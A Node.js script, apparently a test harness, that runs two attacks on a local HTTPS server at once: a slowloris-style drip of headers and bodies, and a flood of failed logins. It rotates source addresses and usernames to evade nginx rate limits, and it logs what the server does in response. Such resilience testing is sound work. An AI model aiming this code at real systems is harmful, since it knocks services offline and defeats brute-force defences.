// Two attacks at once, in a process of its own so that who measures is not slowed by it:
//
//   aanval.mjs PORT '{"traag": 1500, "mis": 100, "aanloop": 8000}'   slow connections that are all there after so many ms and are
//                                                                     held open, and wrong logins a second
//
// Every line of output is what was seen so far, as JSON. Ends with its input.
import https from 'node:https';
import tls from 'node:tls';

const poort = Number(process.argv[2]), { traag, mis, aanloop } = JSON.parse(process.argv[3]);
const gezien = { open: 0, afgekapt: 0, geweigerd: 0, mis: {}, misMs: [] };
const keuze = (n) => Math.floor(Math.random() * n);
const overal = { host: '127.0.0.1', port: poort, servername: 'localhost', rejectUnauthorized: false };

// A third drips the head of a request, the others a body. From sixty addresses, so that no address has more than nginx allows.
function druppel(nummer) {
  const kop = nummer % 3 === 0;
  let begonnen = false, klok;
  const lijn = tls.connect({ ...overal, localAddress: `127.9.0.${1 + nummer % 60}` }, () => {
    begonnen = true;
    gezien.open++;
    lijn.write(kop ? 'GET /' : `POST /melden HTTP/1.1\r\nHost: localhost:${poort}\r\nContent-Length: 60000\r\n`
      + 'Content-Type: application/x-www-form-urlencoded\r\n\r\nw');
    klok = setInterval(() => lijn.write('a'), kop ? 1000 : 4000);
  });
  lijn.on('data', (antwoord) => { if (/^HTTP\/1.1 429/.test(antwoord.toString('latin1'))) gezien.geweigerd++; });
  lijn.on('error', () => lijn.destroy());
  lijn.on('close', () => {
    clearInterval(klok);
    if (begonnen) gezien.open--;
    gezien.afgekapt++;
    setTimeout(druppel, 500 + keuze(1000), nummer);
  });
}
for (let nummer = 0; nummer < traag; nummer++) setTimeout(druppel, keuze(aanloop), nummer);

// Each from another address and with another name, so that no count per name or per address stops it.
let bezig = 0;
function misgaan() {
  if (bezig >= 400) return;
  bezig++;
  const naam = `onbekend${keuze(1e9)}`, lijf = `inlognaam=${naam}&wachtwoord=verkeerd${keuze(1e9)}`;
  const begin = performance.now();
  const klaar = (wat) => {
    bezig--;
    gezien.mis[wat] = (gezien.mis[wat] ?? 0) + 1;
    if (wat === 422) gezien.misMs = [...gezien.misMs.slice(-99), Math.round(performance.now() - begin)];
  };
  const vraag = https.request({ ...overal, agent: false, localAddress: `127.${16 + keuze(64)}.${keuze(256)}.${1 + keuze(250)}`,
    method: 'POST', path: '/inloggen', headers: { Host: `localhost:${poort}`, 'Content-Length': lijf.length,
      'Content-Type': 'application/x-www-form-urlencoded' }, timeout: 30000 },
  (antwoord) => { antwoord.resume(); antwoord.on('end', () => klaar(antwoord.statusCode)); });
  vraag.on('error', () => klaar('niets'));
  vraag.on('timeout', () => vraag.destroy());
  vraag.end(lijf);
}
if (mis) setInterval(misgaan, 1000 / mis);
setInterval(() => console.log(JSON.stringify(gezien)), 500);
process.stdin.resume().on('end', () => process.exit(0));
